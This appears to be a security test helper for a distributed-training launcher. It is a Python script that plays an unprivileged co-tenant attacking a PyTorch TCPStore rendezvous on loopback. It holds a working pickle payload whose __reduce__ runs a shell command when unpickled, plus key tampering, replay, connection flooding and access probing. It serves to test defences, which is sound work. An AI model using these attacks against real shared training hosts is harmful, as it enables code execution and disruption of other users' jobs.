"""A co-tenant's attacks on a launcher's rendezvous store, run as an unprivileged user by
tests/test_attacks.py (it needs only torch: any local user can connect to a loopback TCPStore).

It connects to ``127.0.0.1:PORT``, waits until torch's rendezvous key ``torch.rendezvous.RUN_ID``
is there, keeps a copy of trainguard's sealed state (``trainguard/rendezvous/RUN_ID``, when
present), prints ``ready`` and then runs one attack per line read from stdin, printing ``done
ATTACK`` after each:

* ``pickle``: a pickle that writes the attacker's uid... as whoever unpickles it, into
  ``MARKER`` (a path only the launching user can write): base64 under torch's key (torch's
  c10d backend decodes it so), raw under trainguard's;
* ``garbage``: bytes that are no state under both keys;
* ``oversize``: 2 MiB under trainguard's key;
* ``delete``: both keys deleted;
* ``replay``: waits until trainguard's key holds a value other than the copy (the launcher
  wrote since), then writes the copy back.

Usage: ``store_attacker.py PORT RUN_ID MARKER``; ``store_attacker.py --survey RUN_DIR PORT...``
(see :func:`survey`); ``store_attacker.py --flood PORT N`` (see :func:`flood`);
``store_attacker.py --reach PATH_OR_PORT...`` (see :func:`reach`).
"""

from __future__ import annotations

import base64
import os
import pickle
import resource
import socket
import sys
import time
from datetime import timedelta

import torch.distributed as dist

WAIT = 60.0  # s: the longest wait for a key


class Payload:
    """Unpickled, runs a shell command (the attack of issue 54)."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def wait(predicate) -> bool:
    deadline = time.monotonic() + WAIT
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return False


def main(argv: list[str]) -> int:
    port, run_id, marker = int(argv[1]), argv[2], argv[3]
    store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=30))
    torch_key, ours = f"torch.rendezvous.{run_id}", f"trainguard/rendezvous/{run_id}"
    if not wait(lambda: store.check([torch_key])):
        print("no rendezvous key", flush=True)
        return 1
    wait(lambda: store.check([ours]))  # absent before the fix
    copy = store.get(ours) if store.check([ours]) else b""
    print("ready", flush=True)
    for line in sys.stdin:
        attack = line.strip()
        if attack == "pickle":
            payload = pickle.dumps(Payload(f"id -u > {marker}"))
            store.set(torch_key, base64.b64encode(payload))
            store.set(ours, payload)
        elif attack == "garbage":
            store.set(torch_key, b"\x00not a state")
            store.set(ours, b"\x00not a state")
        elif attack == "oversize":
            store.set(ours, b"x" * (2 << 20))
        elif attack == "delete":
            store.delete_key(torch_key)
            store.delete_key(ours)
        elif attack == "replay":
            wait(lambda: store.check([ours]) and store.get(ours) not in (copy, b"x" * (2 << 20)))
            store.set(ours, copy)
        print(f"done {attack}", flush=True)
    return 0


def survey(argv: list[str]) -> int:
    """``store_attacker.py --survey RUN_DIR PORT...``: print what this user reaches of a one-node
    launch's rendezvous: ``file: ...`` (opening ``RUN_DIR/.rendezvous-store``) and ``keys PORT:
    ...`` (the rendezvous keys of the store on each port, or why none)."""
    run_dir, ports = argv[2], [int(p) for p in argv[3:]]
    try:
        with open(os.path.join(run_dir, ".rendezvous-store"), "rb") as f:
            print(f"file: read {len(f.read())} bytes", flush=True)
    except OSError as e:
        print(f"file: {type(e).__name__}", flush=True)
    for port in ports:
        try:
            store = dist.TCPStore(
                "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5)
            )
            keys = [k for k in store.list_keys() if "rendezvous" in k]
            print(f"keys {port}: {keys}", flush=True)
        except Exception as e:  # noqa: BLE001 (a port that is no store)
            print(f"keys {port}: {type(e).__name__}", flush=True)
    return 0


RECOVERY_KEYS = ("attempt", "spares/", "groups")  # how the in-process recovery protocol's keys begin


def reach(argv: list[str]) -> int:
    """``store_attacker.py --reach PATH_OR_PORT...``: print what this user reaches of each: a
    path (a directory is listed, a file read): ``open PATH: ok`` or the error's name; a port
    (``127.0.0.1:PORT``, as a TCPStore client): ``keys PORT: N, recovery [...]`` (how many keys,
    and those of the in-process recovery protocol), or the error's name."""
    for target in argv[2:]:
        if not target.isdigit():
            try:
                if os.path.isdir(target):
                    os.listdir(target)
                else:
                    with open(target, "rb") as f:
                        f.read()
                print(f"open {target}: ok", flush=True)
            except OSError as e:
                print(f"open {target}: {type(e).__name__}", flush=True)
            continue
        try:
            store = dist.TCPStore(
                "127.0.0.1", int(target), is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5)
            )
            keys = store.list_keys()
            recovery = [k for k in keys if k.startswith(RECOVERY_KEYS)]
            print(f"keys {target}: {len(keys)}, recovery {recovery}", flush=True)
        except Exception as e:  # noqa: BLE001 (a port that is no store)
            print(f"keys {target}: {type(e).__name__}", flush=True)
    return 0


def flood(argv: list[str]) -> int:
    """``store_attacker.py --flood PORT N``: open ``N`` idle connections to ``127.0.0.1:PORT``,
    print ``held K`` (those it got) and keep them until stdin closes."""
    port, n = int(argv[2]), int(argv[3])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, n + 64)), hard))
    held = []
    for _ in range(n):
        try:
            held.append(socket.create_connection(("127.0.0.1", port), timeout=5))
        except OSError:
            break
    print(f"held {len(held)}", flush=True)
    sys.stdin.read()
    return 0


def run(argv: list[str]) -> int:
    """The attack ``argv[1]`` names (``--survey``, ``--flood``, ``--reach``) or else :func:`main`'s."""
    modes = {"--survey": survey, "--flood": flood, "--reach": reach}
    return modes.get(argv[1], main)(argv)


if __name__ == "__main__":
    sys.exit(run(sys.argv))
